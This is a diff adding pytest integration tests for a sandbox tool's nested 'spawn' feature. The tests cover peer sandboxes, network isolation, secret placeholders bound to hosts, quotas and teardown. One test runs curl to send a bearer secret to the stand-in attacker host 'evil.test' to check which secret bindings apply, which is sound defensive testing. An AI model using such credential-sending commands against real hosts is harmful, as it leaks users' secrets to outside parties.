@@ -1,0 +1,203 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Sandboxes that spawn sandboxes (docs/spawn.md): a parent started with
+--allow-spawn runs `msb start/exec/ps/logs/stop/rm` inside itself, over
+its agent's link to the host (not the network), on peers the host makes
+within the parent's limits. One parent (Debian with curl, on the fake
+internet with its TLS servers) and its two peers are booted once for the
+module: one with a secret passed by placeholder, one air-gapped. The
+servers' logs (fakenet.py) show where a value went."""
+
+import json
+import os
+import sys
+
+import pytest
+
+from conftest import ROOT, files_holding, unique
+from fakenet import internet, tls_internet  # noqa: F401
+
+sys.path.insert(0, os.path.join(ROOT, "tests", "images"))
+
+VALUE = "sk-spawn-" + os.urandom(12).hex()
+
+
+@pytest.fixture(scope="module")
+def debian_image(msb, tmp_path_factory):
+    """tests/images/debian.py's python3 + curl image, loaded."""
+    import build
+    import debian
+    try:
+        im = debian.image()
+    except debian.Unavailable as e:
+        pytest.skip(f"Debian packages for the curl image unavailable: {e}")
+    d = str(tmp_path_factory.mktemp("debian-layout"))
+    build.write_layout(im, d, "debian-curl:1")
+    msb("load", "-q", "-t", "debian-curl:1", d, check=0)
+    return "debian-curl:1"
+
+
+@pytest.fixture(scope="module")
+def parent(msb, debian_image, tls_internet):
+    """TOKEN bound to api.test and evil.test; two peers at most, of
+    256M each."""
+    name = unique("parent")
+    msb("run", debian_image, "--name", name, "-d", "--dns-nameserver",
+        "198.51.100.2", "--tls-upstream-ca", tls_internet.ca,
+        "--secret-env", "TOKEN=@env:MSB_SPAWN_TOKEN:api.test,evil.test",
+        "--allow-spawn", "2", "--spawn-memory", "256M", check=0,
+        env={"MSB_SPAWN_TOKEN": VALUE})
+    yield name
+    msb("rm", "-f", name)
+
+
+def inside(msb, name, *argv, timeout=180):
+    """argv run in sandbox @name (no shell between)."""
+    p = msb("exec", name, "--", *argv, timeout=timeout)
+    return p.returncode, p.stdout.decode(), p.stderr.decode()
+
+
+@pytest.fixture(scope="module")
+def peers(msb, parent):
+    """The parent starts "researcher" with its TOKEN for api.test only,
+    and the air-gapped "coder"."""
+    r = inside(msb, parent, "msb", "start", "researcher",
+               "--secret-env", "TOKEN=@env:TOKEN:api.test")
+    assert r[0] == 0 and r[1] == "researcher\n", r
+    r = inside(msb, parent, "msb", "start", "coder", "--net-deny-all")
+    assert r[0] == 0 and r[1] == "coder\n", r
+    return "researcher", "coder"
+
+
+def test_the_parent_runs_commands_in_its_peers(msb, parent, peers):
+    researcher, coder = peers
+    rc, out, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
+                          "-c", "hostname; echo to-stderr >&2; exit 3")
+    assert rc == 3 and out == "researcher\n" and "to-stderr" in err, \
+        (rc, out, err)
+    rc, out, _ = inside(msb, parent, "msb", "exec", coder, "--",
+                        "hostname")
+    assert rc == 0 and out.strip() == "coder"
+    # its own peers, from inside, and the host's view of who spawned whom
+    rc, out, _ = inside(msb, parent, "msb", "ps", "--format", "json")
+    mine = {p["name"]: p["status"] for p in json.loads(out)}
+    assert mine == {researcher: "running", coder: "running"}, out
+    rows = {r["name"]: r for r in json.loads(msb.out("ps", "--format",
+                                                     "json"))}
+    assert rows[researcher]["parent"] == parent
+    assert rows[coder]["parent"] == parent
+    assert rows[parent]["parent"] is None
+    table = msb.out("ps").splitlines()
+    assert "PARENT" in table[0]
+    assert any(l.split()[0] == coder and l.split()[-1] == parent
+               for l in table[1:]), table
+    # the supervisor's event, in the parent's stream
+    evs = [json.loads(l) for l in msb.out(
+        "events", parent, "--format", "json", "--topic",
+        "msb.peer.*").splitlines()]
+    assert {e["data"]["name"] for e in evs} == {researcher, coder}, evs
+
+
+def test_the_air_gapped_peer_has_no_network(msb, parent, peers, tls_internet):
+    researcher, coder = peers
+    rc, out, _ = inside(msb, parent, "msb", "exec", researcher, "--",
+                        "curl", "-sS", "-m", "20", "http://web.test/")
+    assert rc == 0 and out == "hello from the fake internet\n", out
+    rc, out, err = inside(msb, parent, "msb", "exec", coder, "--",
+                          "curl", "-sS", "-m", "5", "http://198.51.100.2/")
+    assert rc != 0, (out, err)
+    assert "denied tcp 198.51.100.2:80: --net-deny-all" in \
+        msb.out("logs", coder)
+
+
+def test_a_secret_by_placeholder_works_at_its_bound_host_only(
+        msb, parent, peers, tls_internet):
+    researcher, _ = peers
+    mine = inside(msb, parent, "sh", "-c", 'echo "$TOKEN"')[1].strip()
+    theirs = inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
+                    'echo "$TOKEN"')[1].strip()
+    assert mine.startswith("msb_placeholder_") and \
+        theirs.startswith("msb_placeholder_") and mine != theirs
+    api, evil = (len(tls_internet.log(k)) for k in ("api", "evil"))
+    curl = 'curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://%s/s'
+    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
+                        "-c", curl % "api.test")
+    assert rc == 0, err
+    assert f"Bearer {VALUE}".encode() in tls_internet.log("api")[api:]
+    # evil.test: the parent's binding, not the peer's
+    inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
+           curl % "evil.test")
+    assert VALUE.encode() not in tls_internet.log("evil")[evil:]
+    # while the parent itself may send it there
+    rc, _, err = inside(msb, parent, "sh", "-c", curl % "evil.test")
+    assert rc == 0 and VALUE.encode() in tls_internet.log("evil")[evil:], err
+    # the value is in no guest, record, log or file of the host's state
+    assert files_holding(msb.home, VALUE) == []
+
+
+@pytest.mark.parametrize("argv, why", [
+    (["--net-allow-cidr", "10.0.0.0/8"],
+     "--net-allow-cidr 10.0.0.0/8 is wider than this sandbox's own network"),
+    (["--secret-env", "T=@env:TOKEN:other.test"],
+     "host 'other.test' is wider than this sandbox's binding"),
+    (["--secret-env", "T=@env:PATH"],
+     "is not a placeholder of this sandbox's secrets"),
+    (["--image", "busybox:latest"],
+     "image 'busybox:latest' is not one this sandbox may start peers from"),
+    (["--memory", "1G"], "over the host's ceiling"),
+])
+def test_a_peer_may_not_be_wider_than_its_parent(msb, parent, peers, argv,
+                                                 why):
+    rc, out, err = inside(msb, parent, "msb", "start", "wide", *argv)
+    assert rc == 125, (out, err)
+    # (the tree is full too; what is wider is said first)
+    assert why in err, err
+    assert "wide" not in msb.out("ps", "-a", "-q").split()
+
+
+def test_the_quota_counts_the_whole_tree(msb, parent, peers):
+    researcher, _ = peers
+    rc, _, err = inside(msb, parent, "msb", "start", "third")
+    assert rc == 125 and "already has 2 live peers" in err, err
+    # a peer's own peers count against its root's quota
+    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--",
+                        "msb", "start", "grandchild")
+    assert rc == 125 and "already has 2 live peers" in err, err
+    assert "third" not in msb.out("ps", "-a", "-q").split()
+
+
+def test_only_its_own_peers(msb, parent, peers, shared):
+    researcher, _ = peers
+    for argv in (["exec", shared, "--", "true"], ["stop", shared],
+                 ["rm", shared], ["logs", shared]):
+        rc, _, err = inside(msb, parent, "msb", *argv)
+        assert rc == 125 and f"'{shared}' is not a peer of this sandbox" \
+            in err, (argv, err)
+    # a peer may not act on its parent either
+    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "msb",
+                        "exec", parent, "--", "true")
+    assert rc == 125 and "is not a peer of this sandbox" in err, err
+    assert json.loads(msb.out("inspect", shared))["status"] == "running"
+
+
+def test_spawning_is_off_without_allow_spawn(msb, shared):
+    rc, _, err = inside(msb, shared, "msb", "start", "nope")
+    assert rc == 125 and "spawning is off for this sandbox" in err, err
+
+
+def test_outside_a_sandbox_it_says_so(msb):
+    p = msb("start", "researcher", "--image", "busybox")
+    assert p.returncode == 125
+    assert b"not inside a microsandbox sandbox" in p.stderr, p.stderr
+
+
+def test_stop_and_rm_of_a_peer_and_the_parent_takes_its_peers(msb, parent,
+                                                             peers):
+    researcher, coder = peers
+    rc, _, err = inside(msb, parent, "msb", "stop", coder)
+    assert rc == 0, err
+    assert json.loads(msb.out("inspect", coder))["status"] == "stopped"
+    rc, out, _ = inside(msb, parent, "msb", "logs", coder)
+    assert "booting coder" in out
+    msb("rm", "-f", parent, check=0)
+    left = msb.out("ps", "-a", "-q").split()
+    assert researcher not in left and coder not in left, left
